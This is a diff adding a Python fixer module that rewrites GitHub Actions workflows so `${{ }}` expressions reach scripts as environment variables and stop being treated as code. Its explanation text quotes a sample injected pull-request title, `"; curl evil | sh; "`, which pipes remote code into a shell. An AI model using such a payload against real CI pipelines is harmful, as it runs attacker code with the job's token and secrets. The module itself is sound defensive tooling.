@@ -1,0 +1,304 @@
+"""Expressions that become code of a script."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+
+from daemon.domain.fix import Candidate, Edit
+from workers.fixers.registry import NoFix, Target, fixer
+from workers.fixers.workflows import expressions, model, other_rewrite, shell_rewrite
+from workers.fixers.workflows.model import EXPRESSION, Step, Workflow
+from workers.fixers.workflows.shell_rewrite import Change
+from workers.source import yamledit
+from workers.source.yamldoc import Node, dotted
+
+_SINKS = {
+    "actions/github-script": ("script", "javascript"),
+    "azure/powershell": ("inlineScript", "powershell"),
+    "amadevus/pwsh-script": ("script", "powershell"),
+    "jannekem/run-python-script-action": ("script", "python"),
+}
+_SHELLS = {"bash": "shell", "sh": "shell", "zsh": "shell", "ksh": "shell", "dash": "shell", "pwsh": "powershell",
+           "powershell": "powershell", "python": "python", "python3": "python", "node": "javascript"}  # fmt: skip
+_UNKNOWN_SHELL = {
+    "cmd": "cmd expands %NAME% before it parses the line, so a variable would be code as well: use another shell",
+    "pwsh-or-bash": "the matrix runs this script in bash and in PowerShell, which read variables differently: give the "
+    "step a `shell` first",
+}
+_READ = {"shell": '`"$NAME"`', "powershell": "`$env:NAME`", "python": "`os.environ`", "javascript": "`process.env`"}
+
+
+@dataclass
+class _Script:
+    """One script with its place in the document."""
+
+    workflow: Workflow
+    step: Step
+    key: str
+    node: Node
+    parent: Node
+    language: str
+    names: dict[str, str] = field(default_factory=dict)
+    """Variable → the expression it carries."""
+
+    @property
+    def text(self) -> str:
+        """What the edits count in: the lines of a block scalar as they are written, else the value."""
+        if not self.node.block:
+            return self.node.value
+        source = self.workflow.doc.source(self.node)
+        return source.partition("\n")[2]
+
+    @property
+    def taken(self) -> dict[str, str]:
+        """The variables that the step sees already, with their values."""
+        job = self.step.job
+        places = [self.workflow.root.child("env"), job.node.child("env") if job else None, self.step.node.child("env")]
+        return {key.value: value.value for place in places if place for key, value in place.entries}
+
+    def name(self, expression: str) -> str:
+        """The variable for an expression, made up where none has it."""
+        if (same := re.fullmatch(r"env\.([A-Za-z_]\w*)", expressions.inner(expression))) is not None:
+            return same[1]
+        taken = {**self.taken, **self.names}
+        name = expressions.variable(expression, taken, self.text)
+        if name not in self.taken:
+            self.names[name] = expression
+        return name
+
+    def edits(self, changes: list[Change]) -> list[Edit]:
+        """Changes of the text as edits of the file."""
+        doc, text = self.workflow.doc, self.text
+        if not self.node.block:
+            value = text
+            for start, end, new in reversed(changes):
+                value = value[:start] + new + value[end:]
+            key = self.parent.key(self.key)
+            return [yamledit.replace(doc, key, self.node, value)] if key else []
+        base = self.node.end - len(text.encode())
+        at = [base + len(text[:index].encode()) for index in range(len(text) + 1)]
+        return [yamledit.edit(doc, at[start], at[end], new) for start, end, new in changes]
+
+
+@fixer(
+    name="template-injection",
+    weakness="An expression is pasted into a script as code",
+    rules={
+        "zizmor": ["template-injection"],
+        "semgrep": ["run-shell-injection", "github-script-injection"],
+        "checkov": ["CKV_GHA_2"],
+        "codeql": ["actions/code-injection/*"],
+        "actionlint": ["expression"],
+    },
+    explain=(
+        "GitHub replaces `${{ … }}` before the shell sees the script, so a pull request's title such as "
+        '`"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets. Passed through an '
+        'environment variable the value stays data: the shell expands `"$NAME"` after it has parsed the script, and '
+        "never parses the result. The variable must stand where it is expanded (not in single quotes or a quoted "
+        "heredoc) and in double quotes, so that it stays one word. Approaches: a variable of the step; one of the job, "
+        "where several steps need it; the variable that the runner sets anyway (`$GITHUB_HEAD_REF`); in "
+        "github-script, the payload that the action hands over."
+    ),
+)
+def propose(target: Target) -> Iterator[Candidate]:
+    """A script with expressions → the same script with variables."""
+    workflow = model.read(target)
+    scripts = _scripts(target, workflow)
+    reasons: list[NoFix] = []
+    made = 0
+    for make in (_step_variables, _other_words, _runner_variables, _job_variables, _payload):
+        try:
+            found = make([_fresh(script) for script in scripts])
+        except NoFix as reason:
+            reasons.append(reason)
+            continue
+        if found is not None:
+            made += 1
+            yield found
+    if not made:
+        raise reasons[0]
+
+
+def _never(expression: str) -> bool:
+    del expression
+    return False
+
+
+def _always(expression: str) -> bool:
+    return not _never(expression)
+
+
+def _several(expression: str) -> bool:
+    return expressions.foreign(expression) and shell_rewrite.may_be_several(expression)
+
+
+def _scripts(target: Target, workflow: Workflow) -> list[_Script]:
+    first, last = model.lines(target)
+    flagged = _script(workflow, model.flagged_step(target, workflow))
+    if flagged is not None and _wanted_in(flagged):
+        return [flagged]
+    inside = [step for step in workflow.steps if first <= workflow.doc.line_of(step.node.start) <= last]
+    found = [script for step in inside if (script := _script(workflow, step)) is not None and _wanted_in(script)]
+    if not found:
+        message = "no expression of this step carries text that somebody else can choose"
+        raise NoFix(message)
+    return found
+
+
+def _script(workflow: Workflow, step: Step) -> _Script | None:
+    if (run := step.node.child("run")) is not None and run.kind == "scalar":
+        language = _SHELLS.get(workflow.shell(step).rpartition("/")[2])
+        if language is None:
+            raise NoFix(_UNKNOWN_SHELL.get(workflow.shell(step), "how this step's shell reads a variable is not known"))
+        return _Script(workflow, step, "run", run, step.node, language)
+    name, language = _SINKS.get(step.action, ("", ""))
+    inputs = step.node.child("with")
+    given = inputs.child(name) if inputs is not None else None
+    if inputs is None or given is None or given.kind != "scalar":
+        return None
+    return _Script(workflow, step, name, given, inputs, language)
+
+
+def _wanted_in(script: _Script) -> bool:
+    return any(expressions.foreign(match[0]) for match in EXPRESSION.finditer(script.text))
+
+
+def _changes(script: _Script, name: Callable[[str], str], *, split: Callable[[str], bool] = _never) -> list[Change]:
+    if script.language == "shell":
+        return shell_rewrite.rewrite(script.text, expressions.foreign, name, split=split)
+    return other_rewrite.rewrite(script.language, script.text, expressions.foreign, name)
+
+
+def _step_variables(scripts: list[_Script]) -> Candidate:
+    edits = [edit for script in scripts for edit in _with_variables(script, shell_rewrite.may_be_several)]
+    loose = any(_bare(script, _several) for script in scripts)
+    return _made("env-variable", scripts, edits, _explained(scripts[0], "the step", loose=loose))
+
+
+def _other_words(scripts: list[_Script]) -> Candidate | None:
+    """The other choice for bare words: one word where it was split, split where it was one."""
+    if any(_bare(script, expressions.switch) for script in scripts):
+        return None  # Quoted, an option that is switched off would become an empty argument.
+    loose = not any(_bare(script, _several) for script in scripts)
+    if not any(_bare(script, expressions.foreign) for script in scripts):
+        return None
+    edits = [edit for script in scripts for edit in _with_variables(script, _always if loose else _never)]
+    name = "env-variable-split" if loose else "env-variable-quoted"
+    return _made(name, scripts, edits, _explained(scripts[0], "the step", loose=loose))
+
+
+def _bare(script: _Script, wanted: Callable[[str], bool]) -> bool:
+    return script.language == "shell" and shell_rewrite.splits(script.text, wanted)
+
+
+def _runner_variables(scripts: list[_Script]) -> Candidate | None:
+    """The runner sets a variable for it already: no `env` is needed."""
+
+    def known(expression: str) -> str:
+        found = expressions.already_set(expression)
+        if found is None:
+            message = "the runner sets no variable for this expression"
+            raise NoFix(message)
+        return found
+
+    if any(one.language == "javascript" for one in scripts) or all(
+        expressions.inner(match[0]).startswith("env.")
+        for one in scripts
+        for match in EXPRESSION.finditer(one.text)
+        if expressions.foreign(match[0])
+    ):
+        return None
+    edits = [edit for script in scripts for edit in script.edits(_changes(script, known))]
+    why = "The runner sets this variable for every step, so the script reads it without an `env` of its own."
+    return _made("runner-variable", scripts, edits, why)
+
+
+def _job_variables(scripts: list[_Script]) -> Candidate | None:
+    """The variable belongs to the job, where all its steps can read it."""
+    edits: list[Edit] = []
+    for script in scripts:
+        job = script.step.job
+        edits += script.edits(_changes(script, script.name))
+        if job is None or any(
+            not expressions.contexts(value) <= expressions.JOB_CONTEXTS for value in script.names.values()
+        ):
+            return None
+        edits += _environment(script, job.node, before="steps")
+    if not any(script.names for script in scripts):
+        return None
+    paths = [(*script.step.job.path, "env", name) for script in scripts if script.step.job for name in script.names]
+    why = _explained(scripts[0], "the job, for all its steps", loose=False)
+    return model.candidate("env-variable-job", edits, why, declares=[*paths, *_paths(scripts)])
+
+
+def _payload(scripts: list[_Script]) -> Candidate | None:
+    """github-script hands the event over as an object: no text is pasted at all."""
+    edits: list[Edit] = []
+    for script in scripts:
+        if script.step.action != "actions/github-script":
+            return None
+        blank = _blanked(script.text)
+        changes: list[Change] = []
+        for match in EXPRESSION.finditer(script.text):
+            if not expressions.foreign(match[0]):
+                continue
+            value = other_rewrite.javascript_contexts(match[0])
+            before, after = blank[match.start() - 1 : match.start()], blank[match.end() : match.end() + 1]
+            quoted = before == after and before in ("'", '"')
+            if value is None or not (quoted or before == "`" or before.isspace()):
+                return None
+            changes.append((match.start() - quoted, match.end() + quoted, value))
+        edits += script.edits(changes)
+    why = (
+        "The script reads the event through github-script's own `context`: the value is an object's field, never code."
+    )
+    return _made("github-context", scripts, edits, why) if edits else None
+
+
+def _blanked(text: str) -> str:
+    return EXPRESSION.sub(lambda match: "x" * len(match[0]), text)
+
+
+def _with_variables(script: _Script, split: Callable[[str], bool]) -> list[Edit]:
+    edits = script.edits(_changes(script, script.name, split=split))
+    return edits + _environment(script, script.step.node, before="run")
+
+
+def _environment(script: _Script, node: Node, *, before: str) -> list[Edit]:
+    """The variables in the `env` of a step or a job, which is made in front of the key `before`."""
+    names = node.keys()
+    index = names.index(before) if before in names else 0
+    values: dict[str, yamledit.Value] = dict(script.names)
+    try:
+        return yamledit.put_all(script.workflow.doc, node, "env", values, after=names[index - 1] if index else None)
+    except ValueError as error:
+        message = f"the `env` here cannot be added to: {error}"
+        raise NoFix(message) from error
+
+
+def _fresh(script: _Script) -> _Script:
+    return _Script(script.workflow, script.step, script.key, script.node, script.parent, script.language)
+
+
+def _paths(scripts: list[_Script]) -> list[str]:
+    keys = [(*one.step.path, *(() if one.key == "run" else ("with",)), one.key) for one in scripts]
+    return [dotted(key) for key in keys]
+
+
+def _made(approach: str, scripts: list[_Script], edits: list[Edit], why: str) -> Candidate:
+    env = [dotted((*one.step.path, "env")) for one in scripts if one.names]
+    return model.candidate(approach, edits, why, declares=[*_paths(scripts), *env])
+
+
+def _explained(script: _Script, owner: str, *, loose: bool) -> str:
+    reads = _READ[script.language].replace('"', "") if loose else _READ[script.language]
+    words = (
+        " It stays unquoted, because the value seems to be a list of words: it can add arguments, not commands."
+        if loose
+        else ""
+    )
+    return (
+        f"The value reaches the script as an environment variable of {owner}, read as {reads}: data, never code.{words}"
+    )
